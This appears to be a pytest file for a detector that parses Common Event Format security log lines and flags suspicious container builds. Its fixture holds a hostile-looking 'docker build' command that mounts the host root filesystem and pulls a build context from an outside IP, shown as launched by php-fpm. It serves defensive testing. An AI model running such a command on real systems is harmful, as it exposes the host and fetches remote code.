"""Lines of the Common Event Format are read, with or without what syslog writes before them."""

from __future__ import annotations

import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from t1612core import AUTO, Detector, LineError, UnrecognisedError, events_from
from t1612core.telemetry.cef_lines import cef_line

DETECTOR = Detector(schema=AUTO)
COMMAND = "docker build -t x --build-arg A=1 --mount type=bind,src=/ http://203.0.113.7/x.git"
HEAD = "CEF:0|Acme|E\\|DR|1.0|7|a program \\\\ ran|5|"
LINE = (
    f"{HEAD}suser=app fname=docker cs1Label=Command Line cs1={COMMAND} "
    "sproc=/usr/sbin/php-fpm rt=1772438801000 msg=a\\=b"
)
PREFIXES = {
    "": "",
    "<134>": "",
    "Mar  2 08:06:41 h ": "h",
    "<134>Mar  2 08:06:41 h ": "h",
    "<134>1 2026-03-02T08:06:41.123Z h app 12 - - ": "h",
    "2026-03-02T08:06:41.123456+00:00 h ": "h",
    "2026-03-02 08:06:41,123 h agent[7]: ": "h",
    "Mar  2 08:06:41 ": "",
}


@pytest.mark.parametrize("prefix", PREFIXES)
@pytest.mark.parametrize("more", ["", ' request={"a": 1}', " dvchost=other"])
def test_a_line_is_an_event(prefix: str, more: str) -> None:
    errors: list[LineError] = []
    data = f"{prefix}{LINE}{more}\n".encode()
    found, again = DETECTOR.scan_ndjson(io.BytesIO(data * 2), on_error=errors.append)
    host = "other" if "dvchost" in more else PREFIXES[prefix]

    assert (host, "app") == (found.finding.host, found.finding.account)
    assert COMMAND.replace("A=1", "A=[redacted]") == found.finding.detail
    assert "php-fpm" in json.dumps(found.finding.event)
    assert 2 == again.line
    assert not errors


def test_a_text_in_an_event_is_read() -> None:
    for place in ("_raw", "message", "log"):
        (event,) = events_from({place: LINE, "@timestamp": "x"})
        finding = DETECTOR.score(event)
        assert finding is not None
        assert COMMAND.replace("A=1", "A=[redacted]") == finding.detail


def test_its_parts_are_read_as_they_are_spelled() -> None:
    assert cef_line(f"{HEAD}cs1=a cs1=b c\\\\d  shost=h ad.x=y\n") == {
        "DeviceVendor": "Acme",
        "DeviceProduct": "E|DR",
        "DeviceVersion": "1.0",
        "DeviceEventClassID": "7",
        "Activity": "a program \\ ran",
        "LogSeverity": "5",
        "cs1": "a",
        "shost": "h ad.x=y",  # no key of the format
    }


def test_other_events_of_the_format_are_known() -> None:
    assert DETECTOR.kind_of({"_raw": f"{HEAD}src=203.0.113.1 act=deny"}) is None
    assert DETECTOR.kind_of({"_raw": HEAD}) is None


@pytest.mark.parametrize(
    "line",
    [
        "CEF:0|a|b",
        "sshd: invalid user CEF:0|a|b|c|d|e|f|cs1=x",
        f"{HEAD}{'a' * (1 << 20)}",
        "CEF:0|",
    ],
    ids=lambda line: line[:40],
)
def test_what_is_cut_or_stands_elsewhere_is_no_event(line: str) -> None:
    with pytest.raises(UnrecognisedError):
        DETECTOR.kind_of({"_raw": line})


@given(
    st.lists(
        st.sampled_from(["CEF:0|", "|", "\\", "=", "cs1", "cs1Label", " ", "a", "\n", "{", "<1>"])
    )
)
def test_any_line_is_read_or_not_and_none_raises(parts: list[str]) -> None:
    told: Any = cef_line("".join(parts))

    assert told is None or len(told) >= 6
